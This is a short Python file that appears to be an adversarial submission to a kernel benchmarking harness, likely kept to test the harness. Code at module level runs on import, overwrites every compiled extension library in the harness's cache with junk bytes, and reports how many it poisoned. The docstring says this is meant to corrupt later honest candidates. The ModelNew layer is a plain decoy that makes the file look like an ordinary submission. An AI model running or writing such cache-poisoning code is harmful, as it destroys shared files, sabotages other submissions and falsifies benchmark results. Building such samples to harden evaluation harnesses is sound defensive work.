"""Overwrites every compiled extension in the benchmarker's cache, hoping a later honest
candidate loads the garbage (or anything else the attacker wrote there)."""

import glob
import os

import torch
from torch import nn

_CACHE = os.path.dirname(os.environ["TORCH_EXTENSIONS_DIR"])  # set by the compile cache
POISONED = 0
for _library in glob.glob(os.path.join(_CACHE, "ext", "*", "*.so")):
    with open(_library, "wb") as _fh:
        _fh.write(b"\x7fELF poisoned")
    POISONED += 1
print(f"poisoned {POISONED} cached libraries")


class ModelNew(nn.Module):
    def __init__(self, d: int) -> None:
        super().__init__()
        self.w = nn.Parameter(torch.randn(d))
        self.b = nn.Parameter(torch.randn(d))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x * self.w + self.b)
